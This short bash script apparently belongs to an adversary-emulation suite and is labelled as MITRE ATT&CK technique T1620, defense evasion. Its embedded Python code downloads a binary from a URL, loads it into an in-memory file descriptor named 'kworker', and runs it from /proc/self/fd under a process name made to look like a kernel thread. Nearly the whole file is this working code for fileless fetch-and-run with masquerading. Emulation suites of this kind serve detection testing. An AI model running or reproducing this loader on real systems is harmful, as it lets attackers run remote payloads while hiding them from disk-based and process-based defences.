#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1620
# tactic: defense-evasion
# what: fileless: python3 downloads an ELF into a memfd and execs /proc/self/fd/N
. "$AT_LIB"
"$PY" - "$AT_HTTP/update" <<'PYEOF'
import os, sys, urllib.request
b = urllib.request.urlopen(sys.argv[1]).read()
fd = os.memfd_create("kworker", 0)
os.write(fd, b)
pid = os.fork()
if pid == 0:
    os.execv(f"/proc/self/fd/{fd}", ["[kworker/0:1]"])
os.waitpid(pid, 0)
PYEOF
